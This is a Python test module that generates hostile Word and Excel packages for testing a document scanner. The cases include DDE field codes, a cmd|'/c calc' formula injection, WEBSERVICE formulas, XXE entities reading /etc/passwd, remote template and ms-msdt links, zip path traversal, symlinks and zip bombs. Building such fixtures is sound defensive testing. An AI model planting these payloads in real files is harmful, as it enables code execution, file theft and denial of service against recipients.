"""Hostile Word and Excel files."""

from __future__ import annotations

import datetime as dt
import io
import stat
import struct
import zipfile
from collections.abc import Iterator
from functools import partial

import openpyxl

from vanphong.files.tests import samples as s
from vanphong.files.tests.corpus.case import Case, fixed, hostile
from vanphong.files.tests.corpus.pdfs import zip_of

_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
_DATE = (2026, 1, 1, 0, 0, 0)
_MAIN = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml"}
_RELS = {"docx": "word/_rels/document.xml.rels", "xlsx": "xl/_rels/workbook.xml.rels"}
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"


def base(ending: str) -> bytes:
    if ending == "docx":
        return fixed(s.word())
    book = openpyxl.Workbook()
    book.properties.created = book.properties.modified = dt.datetime(2026, 1, 1)  # noqa: DTZ001
    book.active.append(["Số", "Trích yếu"])
    book.active.append([1, "Về việc chuẩn bị kỳ họp"])
    out = io.BytesIO()
    book.save(out)
    return fixed(out.getvalue())


def added(ending: str, part: str, content: bytes) -> bytes:
    return fixed(s.package(base(ending), add={part: content}))


def changed(ending: str, part: str, before: str, after: str) -> bytes:
    return fixed(s.package(base(ending), change={part: (before, after)}))


def related(ending: str, kind: str, target: str, *, mode: str = "External", space=_RELATION):
    line = f'<Relationship Id="rX" Type="{space}/{kind}" Target="{target}"'
    line += f' TargetMode="{mode}"/>' if mode else "/>"
    return changed(ending, _RELS[ending], "</Relationships>", line + "</Relationships>")


def typed(ending: str, kind: str) -> bytes:
    old = {"docx": "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
           "xlsx": "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"}  # fmt: skip
    return changed(ending, "[Content_Types].xml", old[ending], kind)


def headed(ending: str, part: str, head: str) -> bytes:
    """Something written before the root of an XML part, after its declaration."""
    with zipfile.ZipFile(io.BytesIO(base(ending))) as package:
        text = package.read(part).decode()
    at = text.index("?>") + 2 if text.startswith("<?xml") else 0
    first = text[at:].lstrip()[:20]
    return changed(ending, part, first, head + first)


def field(*parts: str, part: str = "word/document.xml", simple: bool = False) -> bytes:
    if simple:
        codes = f'<w:p><w:fldSimple w:instr="{"".join(parts)}"/></w:p>'
    else:
        runs = "".join(f"<w:r><w:instrText>{p}</w:instrText></w:r>" for p in parts)
        codes = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        codes += '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    return changed("docx", part, "<w:sectPr", codes + "<w:sectPr")


def field_made_of_a_field() -> bytes:
    """The code of the outer field is what the inner one gives: QUOTE 68 68 69 is DDE."""

    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    inner = mark("begin") + "<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>"
    inner += mark("separate") + "<w:r><w:t>DDE</w:t></w:r>" + mark("end")
    codes = f"<w:p>{mark('begin')}{inner}<w:r><w:instrText> cmd</w:instrText></w:r>"
    return changed("docx", _MAIN["docx"], "<w:sectPr", f"{codes}{mark('end')}</w:p><w:sectPr")


def formula(text: str) -> bytes:
    row = f'<row r="9"><c r="A9"><f>{text}</f><v>0</v></c></row></sheetData>'
    return changed("xlsx", _MAIN["xlsx"], "</sheetData>", row)


def named_formula(text: str) -> bytes:
    names = f'<definedNames><definedName name="a">{text}</definedName></definedNames>'
    return changed("xlsx", "xl/workbook.xml", "<calcPr", names + "<calcPr")


def entry(ending: str, name: str, content: bytes, **about: int) -> bytes:
    """One more entry with an odd name or odd facts about it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        with zipfile.ZipFile(io.BytesIO(base(ending))) as old:
            for one in old.infolist():
                new.writestr(zipfile.ZipInfo(one.filename, _DATE), old.read(one))
        odd = zipfile.ZipInfo(name, _DATE)
        odd.compress_type = about.get("method", zipfile.ZIP_DEFLATED)
        odd.external_attr = about.get("attributes", 0)
        new.writestr(odd, content)
    return out.getvalue()


def many_parts(count: int, size: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        with zipfile.ZipFile(io.BytesIO(base("docx"))) as old:
            for one in old.infolist():
                new.writestr(zipfile.ZipInfo(one.filename, _DATE), old.read(one))
        for number in range(count):
            new.writestr(f"word/media/{number}.png", b"\0" * size)
    return out.getvalue()


def directory_field(content: bytes, part: bytes, offset: int, form: str, value: int) -> bytes:
    """A number in the package's directory that lies about a part."""
    raw = bytearray(content)
    at = raw.rindex(b"PK\x01\x02", 0, raw.rindex(part))
    struct.pack_into(form, raw, at + offset, value)
    return bytes(raw)


def other_name_inside(ending: str) -> bytes:
    """The directory says one name, the entry itself another."""
    raw = added(ending, "word/media/a.png", b"x" * 99)
    at = raw.index(b"word/media/a.png")
    return raw[:at] + b"word/media/b.png" + raw[at + 16 :]


def both_kinds() -> bytes:
    more = (
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/></Types>'
    )
    return changed("docx", "[Content_Types].xml", "</Types>", more)


def nested(ending: str, depth: int) -> bytes:
    deep = "<x>" * depth + "</x>" * depth
    end = {"docx": "</w:body>", "xlsx": "</sheetData>"}[ending]
    return changed(ending, _MAIN[ending], end, deep + end)


def deep_packages(depth: int) -> bytes:
    inner = base("docx")
    for _ in range(depth):
        inner = added("docx", "word/media/a.bin", inner)
    return inner


_BOMB = '<!DOCTYPE a [<!ENTITY b "' + "b" * 99 + '"><!ENTITY c "' + "&b;" * 99 + '">]>'
_HEADS = {
    "entities": _BOMB,
    "outside entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "outside type": '<!DOCTYPE a SYSTEM "http://an.example/a.dtd">',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://an.example/b"> %b;]>',
    "type alone": "<!DOCTYPE a>",
}
_XML_PARTS = {
    "docx": ("word/document.xml", "word/styles.xml", "[Content_Types].xml", "docProps/core.xml",
             "word/_rels/document.xml.rels"),
    "xlsx": ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "[Content_Types].xml",
             "xl/_rels/workbook.xml.rels"),
}  # fmt: skip

_PARTS: dict[str, tuple[tuple[str, bytes], ...]] = {
    "office_macro": (
        ("{0}/vbaProject.bin", _OLE), ("{0}/VBAPROJECT.BIN", _OLE), ("{0}/vbaData.xml", b"<a/>"),
        ("{0}/vba%50roject.bin", _OLE), ("xl/macrosheets/sheet1.xml", b"<a/>"),
        ("xl/dialogsheets/sheet1.xml", b"<a/>"),
    ),
    "office_ole": (
        ("{0}/embeddings/oleObject1.bin", _OLE), ("{0}/embeddings/a.docx", b"a"),
        ("{0}/activeX/activeX1.xml", b"<a/>"), ("{0}/media/a.png", _OLE),
        ("{0}/media/b.png", b"MZ\x90\0" + b"\0" * 99), ("{0}/media/c.jpg", b"\x7fELF" + b"\0" * 9),
        ("{0}/media/d.emf", b"{\\rtf1 a}"), ("{0}/afchunk.mht", b"a"), ("{0}/a.html", b"a"),
        ("{0}/run.exe", b"a"), ("{0}/run.vbs", b"a"), ("{0}/controls/a.xml", b"<a/>"),
        ("{0}/media/e.png", zip_of("a.txt", b"a")), ("{0}/media/f.png", b"%PDF-1.7\n"),
        ("{0}/media/g.png", b"<html><script>1</script>"),
    ),
    "office_remote": (
        ("xl/externalLinks/externalLink1.xml", b"<a/>"), ("xl/connections.xml", b"<a/>"),
        ("{0}/webextensions/webextension1.xml", b"<a/>"),
        ("xl/queryTables/queryTable1.xml", b"<a/>"),
    ),
}  # fmt: skip
_RELATIONS: dict[str, tuple[tuple[str, str], ...]] = {
    "office_remote": (
        ("attachedTemplate", "http://an.example/t.dotm"), ("attachedTemplate", "file:///c:/t.dot"),
        ("image", "http://an.example/i.png"), ("image", "//an.example/i.png"),
        ("frame", "http://an.example/f"), ("subDocument", "http://an.example/s.docx"),
        ("mailMergeSource", "file:///c:/a.mdb"), ("externalLinkPath", "http://an.example/a.xlsx"),
        ("hyperlink", "file://an.example/a"), ("hyperlink", "javascript:1"),
        ("hyperlink", "\\\\an.example\\a"), ("hyperlink", "ms-msdt:/id"),
        ("hyperlink", "search-ms:query=a"), ("hyperlink", "//an.example/a"),
        ("hyperlink", "ms-word:ofe|u|http://an.example/a"), ("hyperlink", "vbscript:1"),
    ),
    "office_ole": (
        ("oleObject", "http://an.example/o"), ("package", "http://an.example/p"),
        ("control", "http://an.example/c"), ("aFChunk", "http://an.example/c"),
    ),
    "office_macro": (("vbaProject", "a.bin"),),
}  # fmt: skip
_FIELDS = (
    ("DDE cmd",), ("DDEAUTO cmd",), ("dde ", "cmd"), ("D", "D", "E", "AUTO cmd"),
    ("  DDEAUTO cmd",), ("INCLUDETEXT http://an.example",), ("INCLUDEPICTURE http://an.example",),
    ("IMPORT a.png",), ("LINK Excel.Sheet a",), ("DATABASE a",),
)  # fmt: skip
_FORMULAS = (
    "WEBSERVICE(&quot;http://an.example/&quot;&amp;A1)", "cmd|'/c calc'!A0",
    "_xlfn.WEBSERVICE(A1)", "RTD(&quot;a&quot;,,1)", "CALL(&quot;a&quot;,&quot;b&quot;,1)",
    "REGISTER.ID(&quot;a&quot;,&quot;b&quot;)", "_xlfn.IMAGE(&quot;http://an.example&quot;)",
)  # fmt: skip


def hostile_cases() -> Iterator[Case]:
    for ending, folder in (("docx", "word"), ("xlsx", "xl")):
        name = f"a.{ending}"
        for code, parts in _PARTS.items():
            for part, content in parts:
                place = part.format(folder)
                codes = {code, "office_ole"} if content is _OLE else {code}
                yield hostile(f"{ending} {place}", name, partial(added, ending, place, content),
                              *codes)  # fmt: skip
        for code, relations in _RELATIONS.items():
            for kind, target in relations:
                yield hostile(f"{ending} {kind} {target}", name,
                              partial(related, ending, kind, target), code)  # fmt: skip
            kind, target = relations[0]
            yield hostile(f"{ending} strict {kind}", name,
                          partial(related, ending, kind, target, space=_STRICT), code)  # fmt: skip
        for target in ("http://an.example/i.png", "\\\\an.example\\i.png", "//an.example/i"):
            yield hostile(
                f"{ending} inner {target}",
                name,
                partial(related, ending, "image", target, mode=""),
                "office_remote",
            )
        for what, head in _HEADS.items():
            for part in _XML_PARTS[ending]:
                yield hostile(f"{ending} {what} in {part}", name,
                              partial(headed, ending, part, head), "office_entities")  # fmt: skip
        yield from _package_cases(ending, name)
    yield from _acting_cases()


def _acting_cases() -> Iterator[Case]:
    code = "office_active_field"
    for parts in _FIELDS:
        yield hostile(f"docx field {parts}", "a.docx", partial(field, *parts), code)
        yield hostile(
            f"docx simple {parts}", "a.docx", partial(field, *parts, simple=True), code
        )
    yield hostile("docx field of a field", "a.docx", field_made_of_a_field, code)
    yield hostile("docx wide field", "a.docx", s.word_with_wide_field, code)
    yield hostile("docx odd encoding", "a.docx", s.word_in_odd_encoding, "office_damaged")
    for text in _FORMULAS:
        yield hostile(f"xlsx {text}", "a.xlsx", partial(formula, text), code)
        yield hostile(f"xlsx named {text}", "a.xlsx", partial(named_formula, text), code)
    for ending, kind in (
        ("docx", "vnd.ms-word.document.macroEnabled.main+xml"),
        ("docx", "vnd.ms-word.template.macroEnabledTemplate.main+xml"),
        ("xlsx", "vnd.ms-excel.sheet.macroEnabled.main+xml"),
        ("xlsx", "vnd.ms-excel.sheet.binary.macroEnabled.main"),
    ):
        yield hostile(f"{ending} type {kind}", f"a.{ending}", partial(typed, ending, kind),
                      "office_macro")  # fmt: skip
    yield hostile("docx that is xlsx too", "a.docx", both_kinds, "file_type_mismatch")
    yield hostile("docx lying bomb", "a.docx", s.lying_bomb, "office_damaged")
    yield hostile("docx overlap", "a.docx", s.overlapping_package, "office_bomb")
    yield hostile("docx of 3,100 parts", "a.docx", partial(many_parts, 3100, 9), "office_bomb")
    yield hostile(
        "docx of 300 MB", "a.docx", partial(many_parts, 100, 3_000_000), "office_bomb"
    )
    for depth in (1, 4):
        yield hostile(f"docx in docx {depth}", "a.docx", partial(deep_packages, depth),
                      "office_ole")  # fmt: skip


def _package_cases(ending: str, name: str) -> Iterator[Case]:
    slips = (
        "../a",
        "word/../../etc/passwd",
        "/etc/passwd",
        "..\\a",
        "c:/a",
        "word\\a.xml",
        "a/..",
    )
    for odd in slips:
        yield hostile(f"{ending} entry {odd}", name, partial(entry, ending, odd, b"a"),
                      "office_path")  # fmt: skip
    link = (stat.S_IFLNK | 0o777) << 16
    yield hostile(
        f"{ending} link",
        name,
        partial(entry, ending, "media/a", b"/etc/passwd", attributes=link),
        "office_path",
    )
    for method in (zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        yield hostile(f"{ending} method {method}", name,
                      partial(entry, ending, "media/a.bin", b"a" * 99, method=method),
                      "office_damaged")  # fmt: skip
    yield hostile(
        f"{ending} bomb",
        name,
        partial(added, ending, "media/a.png", b"\0" * 120_000_000),
        "office_bomb",
    )
    yield hostile(
        f"{ending} same name",
        name,
        partial(entry, ending, _MAIN[ending].upper(), b"<a/>"),
        "office_damaged",
    )
    part = _MAIN[ending].encode()
    for what, offset, form, value, code in (
        ("locked", 8, "<H", 1, "office_encrypted"), ("method 99", 10, "<H", 99, "office_damaged"),
        ("wrong sum", 16, "<I", 7, "office_damaged"), ("short", 24, "<I", 9, "office_damaged"),
        ("far", 42, "<I", 1 << 30, "office_damaged"),
    ):  # fmt: skip
        yield hostile(f"{ending} {what}", name,
                      lambda o=offset, f=form, v=value: directory_field(base(ending), part, o, f, v),
                      code, "office_bomb")  # fmt: skip
    yield hostile(
        f"{ending} other name", name, partial(other_name_inside, ending), "office_damaged"
    )
    for what, tail in (("page", b"<html><script>1"), ("pdf", s.pdf())):
        yield hostile(f"{ending} and {what}", name, lambda t=tail: base(ending) + t,
                      "office_damaged", "file_polyglot")  # fmt: skip
    yield hostile(f"{ending} behind bytes", name, lambda: b"PK\x03\x04" + b"0" * 60 + base(ending),
                  "office_damaged")  # fmt: skip
    yield hostile(
        f"{ending} 10,000 deep", name, partial(nested, ending, 10_000), "office_damaged"
    )
